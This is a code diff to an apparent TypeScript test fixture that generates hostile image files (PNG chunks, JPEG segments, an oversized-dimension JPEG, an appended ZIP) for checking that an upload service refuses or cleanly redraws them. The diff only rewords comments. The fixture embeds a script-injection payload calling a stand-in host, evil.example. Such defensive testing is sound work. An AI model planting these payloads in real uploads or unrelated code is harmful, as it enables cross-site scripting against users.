@@ -1,11 +1,11 @@
 import { crc32, deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
 import sharp from 'sharp'
 
-/** Stands in every payload: nothing of it may be left in what the house keeps. */
+/** Part of every payload: stored pictures must not contain it. */
 export const marker = 'HOSTILE-PAYLOAD-d41d8cd9'
 const script = `<script>fetch('https://evil.example/${marker}')</script>`
 
-/** `refused` says so with a key; `redrawn` is kept as a new picture without anything of the payload. */
+/** `refused` is a refusal with a key; `redrawn` is stored as a new picture without the payload. */
 export interface Hostile {
   readonly name: string
   readonly bytes: Buffer
@@ -31,10 +31,10 @@ const header = (width: number, height: number, depth: number, colour: number): B
   return chunk('IHDR', data)
 }
 const end = chunk('IEND', Buffer.alloc(0))
-/** A PNG of black pixels: small in bytes, whatever its size. */
+/** A PNG of black pixels: few bytes, whatever its dimensions. */
 const blackPng = (width: number, height: number, pixels: Buffer): Buffer =>
   join(pngMagic, header(width, height, 1, 0), chunk('IDAT', deflateSync(pixels)), end)
-/** Puts chunks behind the head of a PNG, which is 33 bytes long. */
+/** Inserts chunks after the header of a PNG, which is 33 bytes long. */
 const withChunks = (png: Buffer, ...chunks: readonly Buffer[]): Buffer => join(png.subarray(0, 33), ...chunks, png.subarray(33))
 
 const segment = (kind: number, data: Buffer): Buffer => {
@@ -45,7 +45,7 @@ const segment = (kind: number, data: Buffer): Buffer => {
 const withSegment = (jpeg: Buffer, kind: number, data: Buffer): Buffer =>
   join(jpeg.subarray(0, 2), segment(kind, data), jpeg.subarray(2))
 
-/** A JPEG that says how large it is and holds nothing. */
+/** A JPEG that declares large dimensions and contains no data. */
 const hugeJpeg = (): Buffer => {
   const frame = Buffer.from([8, 0xff, 0xff, 0xff, 0xff, 3, 1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0])
   return join([0xff, 0xd8], segment(0xc0, frame), segment(0xda, Buffer.from([3, 1, 0, 2, 0, 3, 0, 0, 63, 0])), [0xff, 0xd9])
@@ -69,7 +69,7 @@ const extended = (flags: number, width: number, height: number): Buffer => {
   return webpChunk('VP8X', data)
 }
 
-/** A ZIP archive of one file, which can be read from the end of any other file. */
+/** A ZIP archive of one file, which can be appended to any other file. */
 const zip = (): Buffer => {
   const content = deflateRawSync(Buffer.from(script))
   const head = Buffer.alloc(30)
@@ -79,7 +79,7 @@ const zip = (): Buffer => {
   return join(head, content, marker, tail)
 }
 
-/** Pictures that are what they say, of which the others are made. */
+/** Valid pictures from which the others are made. */
 const base = async () => {
   const noise = Buffer.from(Array.from({ length: 320 * 240 * 3 }, (_, index) => (index * 7919 + (index >> 3) * 104_729) & 0xff))
   const raw = { raw: { width: 320, height: 240, channels: 3 } } as const
@@ -209,7 +209,7 @@ const unusual = async ({ plain, jpeg, png }: Base): Promise<Readonly<Record<stri
   ),
 })
 
-/** The whole corpus, made anew for every run. */
+/** The whole corpus, created for every run. */
 export const hostileFiles = async (): Promise<readonly Hostile[]> => {
   const pictures = await base()
   const kept = { ...carriers(pictures), ...(await unusual(pictures)) }
